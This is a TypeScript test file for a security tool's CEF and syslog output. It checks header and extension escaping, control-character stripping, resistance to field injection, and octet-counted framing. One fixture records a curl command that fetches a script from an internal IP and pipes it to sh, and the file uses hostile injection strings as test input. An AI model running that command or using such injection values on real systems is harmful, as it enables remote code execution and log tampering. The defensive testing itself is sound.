import { describe, expect, it } from "vitest";
import { cefHeaderEscape, cefMessage, cefValueEscape, octetCounted, syslogMessage } from "./syslog.ts";
import { execSession, HOSTILE, hostileFinding, unexpectedProcess } from "./testing/findings.ts";

/** Splits a CEF extension on unescaped spaces before `key=`, and unescapes values. */
function extension(cef: string): Record<string, string> {
  const ext = cef.split(/(?<!\\)\|/).slice(7).join("|");
  const fields: Record<string, string> = {};
  for (const m of ext.matchAll(/(\w+)=((?:[^\\=]|\\.)*?)(?= \w+=|$)/g)) {
    fields[m[1]!] = m[2]!.replace(/\\n/g, "\n").replace(/\\r/g, "\r").replace(/\\(.)/g, "$1");
  }
  return fields;
}

describe("CEF", () => {
  it("escapes backslash and pipe in header fields, and keeps them on one line", () => {
    expect(cefHeaderEscape("a|b\\c\nd")).toBe("a\\|b\\\\c d");
  });

  it("escapes backslash, equals sign and line breaks in extension values", () => {
    expect(cefValueEscape("k=v\\x\r\ny|z")).toBe("k\\=v\\\\x\\ny|z");
  });

  it("turns other control characters (tab, NUL, escape, U+2028/2029, C1) into spaces in values and headers", () => {
    const hostile = "a\tb\u0000c\u001bd\u2028e\u2029f\u0085g\u007fh";
    expect(cefValueEscape(hostile)).toBe("a b c d e f g h");
    expect(cefHeaderEscape(hostile)).toBe("a b c d e f g h");
  });

  it("writes the header (vendor, product, version, signature, name, severity) and the extension", () => {
    const cef = cefMessage(unexpectedProcess());
    expect(cef.startsWith("CEF:0|Outlier|Outlier|0.1|process.unexpected|Unexpected process /usr/bin/curl in Deployment payments/checkout container app|10|")).toBe(true);
    expect(extension(cef)).toMatchObject({
      rt: "1714557600123",
      externalId: "f-unexpected-1",
      dhost: "node-a",
      dproc: "curl",
      dpid: "4242",
      sproc: "/bin/sh",
      cs1Label: "cluster",
      cs1: "prod-eu",
      cs3: "Deployment/checkout",
      cs6: "/usr/bin/curl -s http://10.0.0.9/x?a=1|sh",
      flexString1: "process.unexpected|prod-eu/payments/Deployment/checkout/app|/usr/bin/curl",
    });
  });

  it("round-trips values full of CEF's special characters", () => {
    const tricky = "a=b \\ c|d\nnext x=y";
    const fields = extension(cefMessage(unexpectedProcess({ summary: tricky })));
    expect(fields.msg).toBe(tricky);
  });

  it("keeps every hostile field inside its own header field or extension value, with no control or bidi character left", () => {
    const cef = cefMessage(hostileFinding());
    // eslint-disable-next-line no-control-regex
    expect(cef).not.toMatch(/[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e]/);
    // Seven header fields, then the extension: the `|` in the name did not add one.
    const header = cef.split(/(?<!\\)\|/);
    expect(header.slice(0, 5)).toEqual(["CEF:0", "Outlier", "Outlier", "0.1", "exec.session"]);
    expect(header[6]).toBe("5");
    const fields = extension(cef);
    // What CEF can escape comes back exactly; what it cannot (controls, bidi) became spaces.
    // eslint-disable-next-line no-control-regex
    const shown = HOSTILE.replace(/[\u0000-\u0009\u000b\u000c\u000e-\u001f\u202e]/g, " ");
    expect(fields.suser).toBe(`eve${shown}`);
    expect(fields.cs4).toBe(`pod${shown}`);
    expect(fields.cs5).toBe(`app${shown}`);
    expect(fields.dhost).toBe(`node${shown}`);
    expect(fields.sproc).toBe(`/bin/${shown}`);
    expect(fields.cs6).toBe(`/tmp/${shown} ${shown}`);
    expect(Object.keys(fields)).not.toContain("y");
  });

  it("names the exec session's user and leaves out labels without values", () => {
    const fields = extension(cefMessage(execSession()));
    expect(fields.suser).toBe("alice@example.com");
    expect(fields).not.toHaveProperty("cs6Label");
    expect(fields).not.toHaveProperty("dproc");
  });
});

describe("RFC 5424 framing", () => {
  it("writes PRI (facility auth), version 1, a microsecond timestamp, host, app, msgid and no structured data", () => {
    const line = syslogMessage("CEF:0|x", unexpectedProcess(), "alerter-1");
    // auth (4) * 8 + crit (2)
    expect(line).toBe("<34>1 2024-05-01T10:00:00.123456Z alerter-1 outlier - process.unexpected - CEF:0|x");
    expect(syslogMessage("m", execSession(), "my host")).toMatch(/^<36>1 \S+ my_host outlier - exec.session - m$/);
  });

  it("counts octets in bytes, not characters", () => {
    const frame = octetCounted("<34>1 héllo");
    expect(frame.toString("utf8")).toBe("12 <34>1 héllo");
  });
});
